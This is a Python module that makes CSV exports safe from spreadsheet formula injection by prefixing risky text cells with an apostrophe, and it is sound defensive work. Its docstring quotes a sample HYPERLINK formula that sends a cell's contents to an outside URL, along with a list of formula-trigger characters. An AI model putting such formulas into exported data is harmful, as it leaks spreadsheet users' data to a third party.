"""Tables as CSV that a spreadsheet opens as data: no text cell is read as a formula.

A CPU name ``=HYPERLINK("http://...?leak="&A2,"x")`` passed every check (it is legal text)
and landed in 198 cells of the published ``tidy.csv``, where a spreadsheet would run it.
Every text cell that starts with a sign a spreadsheet reads as the start of a formula gets
a leading apostrophe (OWASP's advice): shown as text, and the value after it unchanged.
Numbers are numbers: a negative one is never touched.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

#: What a spreadsheet takes as the start of a formula (or a DDE call) in a cell.
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value: Any) -> Any:
    """``value``, with an apostrophe before it when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_SIGNS):
        return f"'{value}"
    return value


def to_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index), every text cell inert (see :func:`inert_cell`)."""
    safe = frame.copy()
    for column in frame.columns:
        kind = frame[column].dtype
        if pd.api.types.is_object_dtype(kind) or pd.api.types.is_string_dtype(kind):
            safe[column] = frame[column].map(inert_cell)
    return safe.to_csv(index=False)
